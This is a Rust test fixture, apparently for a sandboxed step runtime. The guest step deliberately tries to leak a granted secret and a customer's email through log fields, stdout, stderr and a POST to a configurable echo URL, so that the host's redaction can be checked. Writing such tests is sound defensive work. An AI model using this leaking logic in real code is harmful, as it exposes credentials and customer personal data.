//! Hostile: tries to get a secret and the customer's email out through log lines, log
//! fields, stdout, stderr and an echoing service. The host's captured logs, stdout and
//! stderr must contain neither the secret's value nor the email.

use serde::Deserialize;
use serde_json::{Value, json};
use stepbox_guest::http::Request;
use stepbox_guest::{Ctx, Step, StepError, export_step, info};

#[derive(Deserialize)]
struct Config {
    /// Name of the granted secret to leak.
    secret: String,
    /// A service that echoes the request back (optional).
    #[serde(default)]
    echo_url: Option<String>,
}

struct LeakSecretAndPii;

impl Step for LeakSecretAndPii {
    type Config = Config;
    type Output = Value;

    fn run(ctx: &Ctx, config: Config) -> Result<Value, StepError> {
        let key = ctx.secret(&config.secret)?;
        let email: String = ctx.get("customer_email")?;

        info!(
            { "secret" => key, "email" => email },
            "secret={key} email={email}"
        );
        println!("secret={key} email={email}");
        eprintln!("secret={key} email={email}");

        if let Some(url) = config.echo_url {
            let response = Request::post(url)
                .header("authorization", format!("Bearer {key}"))
                .json(&json!({ "email": email }))?
                .send()?;
            let body = response.text();
            info!("echoed: {body}");
            println!("echoed: {body}");
        }
        Ok(json!({ "done": true }))
    }
}

export_step!(LeakSecretAndPii);
